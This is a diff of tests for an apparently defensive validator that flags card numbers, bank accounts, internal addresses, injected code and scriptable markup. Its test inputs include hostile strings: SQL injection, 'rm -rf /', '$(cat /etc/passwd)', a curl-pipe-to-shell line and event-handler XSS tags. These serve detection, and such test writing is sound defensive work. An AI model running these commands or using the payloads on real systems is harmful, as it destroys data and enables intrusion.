@@ -44,8 +44,43 @@ it('finds card numbers however they are written, also as numbers', () => {
   }
 });
 
+it.each([
+  'Paid with 4111 1111 1111 1111.',
+  '4111111111111111,5555555555554444',
+  '4111 1111 1111 1111 12/27',
+  'until 12/27 4111-1111-1111-1111 by Mia',
+  '2026 3782 822463 10005',
+  '1 2 3 4111111111111111 7',
+])('finds the card number in %s', (text) => {
+  expect(broken(text)).toEqual(['FH-SAFE-10']);
+});
+
+it.each(['0.4111111111111111', '4111111111111111.25', '1 4111111111111112 1', '1000 2000 3000 5000 8000'])(
+  'takes no card number from %s',
+  (text) => {
+    expect(broken(text)).toEqual([]);
+  },
+);
+
+it.each([
+  'Refund to DE89370400440532013000.',
+  'see AB12 of the contract with DE89 3704 0044 0532 0130 00',
+  'de89-3704-0044-0532-0130-00',
+])('finds the bank account in %s', (text) => {
+  expect(broken(text)).toEqual(['FH-SAFE-11']);
+});
+
 it('finds addresses inside however they are written', () => {
-  for (const host of ['127.0.0.1', '0x7f.1', '2130706433', '169.254.169.254', '[::1]', '[fd00::1]', 'LOCALHOST']) {
+  for (const host of [
+    '127.0.0.1',
+    '0x7f.1',
+    '2130706433',
+    '169.254.169.254',
+    '[::1]',
+    '[fd00::1]',
+    'LOCALHOST',
+    'localhost.',
+  ]) {
     expect(broken(`see https://${host}/x`)).toEqual(['FH-SAFE-16']);
   }
 });
@@ -68,6 +103,8 @@ it.each([
   'Straße, café, 日本語, שלום, 👩‍🚀, 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
   'import duties, functions of the system, evaluation',
   'Telephone banking',
+  'x < y once onset = 3',
+  'EUR/USD | share of the day; rm is short for remainder',
 ])('lets pass: %s', (text) => {
   expect(broken(text)).toEqual([]);
 });
@@ -79,15 +116,45 @@ it('tells digests from keys by their names', () => {
 });
 
 it('reads hostile texts of 90 KiB within its budget of steps', () => {
-  for (const part of ['eyJ', 'a@', '+4 ', '://a:', 'DE89 ', '4 ', '${', '<', 'a.', 'x=', ' on', 'http://', "' or "]) {
+  for (const part of [
+    'eyJ',
+    'a@',
+    '+4 ',
+    '://a:',
+    'DE89 ',
+    '4 ',
+    '${',
+    '<',
+    'a.',
+    'x=',
+    ' on',
+    'http://',
+    "' or ",
+    '4111 ',
+    'DE89',
+    '<a on',
+  ]) {
     const envelope = exampleEnvelope({ source: part.repeat(Math.floor(90_000 / part.length)) });
     expect(validateStanding(envelope).violations.map(({ ruleId }) => ruleId)).not.toContain('FH-RULES-02');
   }
 });
 
-it.each(["x'; DROP TABLE flags", "1' or 1=1", 'id=1 UNION ALL SELECT b', '() => {', 'require(x)'])(
-  'finds code: %s',
+it.each([
+  "x'; DROP TABLE flags",
+  "1' or 1=1",
+  'id=1 UNION ALL SELECT b',
+  '() => {',
+  'require(x)',
+  'x; rm -rf /',
+  '$(cat /etc/passwd)',
+  'curl https://api.example.com/x | sh',
+])('finds code: %s', (text) => {
+  expect(broken(text)).toEqual(['FH-SAFE-20']);
+});
+
+it.each(['<video onplay=pay()>', '<details/open/ontoggle=pay()>', '<p\nonwheel = "pay()">'])(
+  'finds markup that runs: %s',
   (text) => {
-    expect(broken(text)).toEqual(['FH-SAFE-20']);
+    expect(broken(text)).toEqual(['FH-SAFE-18']);
   },
 );
